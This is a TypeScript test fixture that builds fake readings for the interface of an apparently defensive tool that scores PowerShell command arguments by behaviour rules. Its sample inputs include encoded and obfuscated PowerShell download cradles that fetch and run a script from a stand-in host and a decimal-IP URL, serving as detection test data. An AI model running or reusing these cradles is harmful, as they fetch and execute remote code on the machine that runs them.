import { defaultRules } from '../../src/arguments/behaviour-rules';
import { decode } from '../../src/arguments/decode';
import { argumentsTemplate } from '../../src/arguments/template';
import type { ArgumentsReading, BehaviourRow, ExploredPage } from '../../src/engine/arguments-reading';
import { hostileTexts } from './hostile-texts';

const utf16 = (text: string): string => btoa(Array.from(text, (sign) => `${sign}\u0000`).join(''));

const usualTexts: readonly string[] = [
  `-nop -w hidden -enc ${utf16("IEX (New-Object Net.WebClient).DownloadString('http://bad.example.com/a.ps1')")}`,
  "& ('{1}{0}' -f 'X','IE') ('ht'+'tp://1359248394/x')",
  '-NoProfile -ExecutionPolicy Bypass -File C:\\Users\\ann\\backup.ps1',
];

const counts: readonly (readonly [number, number, number, number])[] = [[6, 40, 1, 22], [4, 3, 1, 0], [5, 9, 1, 4], [3, 61, 0, 20], [0, 0, 0, 0], [1, 0, 0, 0], [0, 2, 0, 1], [0, 5, 0, 8]];

/** What the screen of arguments reads. */
export function fakeArguments(kind: 'usual' | 'none' | 'hostile' | 'snapshot'): ArgumentsReading {
  const behaviours: readonly BehaviourRow[] = defaultRules.map(({ id, name, attack }, index) => {
    const [rareMalicious, rareOther, commonMalicious, commonOther] = kind === 'none' ? [0, 0, 0, 0] : (counts[index] ?? [0, 0, 0, 0]);
    const seen = rareMalicious + rareOther + commonMalicious + commonOther;
    const bad = rareMalicious + commonMalicious;
    return {
      id, name: kind === 'hostile' && index < hostileTexts.length ? (hostileTexts[index] ?? name) : name, attack, isOwn: kind === 'hostile' && index < 2,
      rareMalicious, rareOther, commonMalicious, commonOther,
      lift: seen === 0 ? null : bad / seen / (10 / 742), p: seen === 0 ? null : bad > 3 ? 0.00012 : 0.41, holmP: seen === 0 ? null : bad > 3 ? 0.0011 : 1,
      rarityLift: seen === 0 ? null : (rareMalicious + rareOther) / seen / (550 / 742), rarityP: seen === 0 ? null : 0.23, rarityHolmP: seen === 0 ? null : 1,
    };
  });
  const texts = kind === 'hostile' ? hostileTexts : usualTexts;
  const templates = kind === 'none' ? [] : texts.map((text, index) => ({ template: argumentsTemplate(text), texts: 12 - index, machines: 9 - index, fqdns: 3, malicious: index === 0 ? 2 : 0, connections: 48, behaviours: ['Download cradle', 'Encoded or broken up'] }));
  return { behaviours, baseDomains: 742, malicious: 10, partialTexts: kind === 'hostile' ? 3 : 0, templates: kind === 'snapshot' ? null : templates, templateCount: templates.length, templatesPending: null };
}

export function fakeExplored(kind: 'usual' | 'none' | 'hostile'): ExploredPage {
  const texts = kind === 'hostile' ? hostileTexts : kind === 'none' ? [] : usualTexts;
  return {
    count: texts.length,
    rows: texts.map((text, index) => ({
      arguments: text, ...decode(text), behaviours: index === 2 ? [] : ['Download cradle', 'Encoded or broken up'], connections: index + 1, machines: 1,
      fqdns: [{ fqdn: 'raw.githubusercontent.com', verdict: index === 0 ? ('malicious' as const) : ('unreviewed' as const) }], fqdnCount: index === 0 ? 3 : 1,
    })),
  };
}
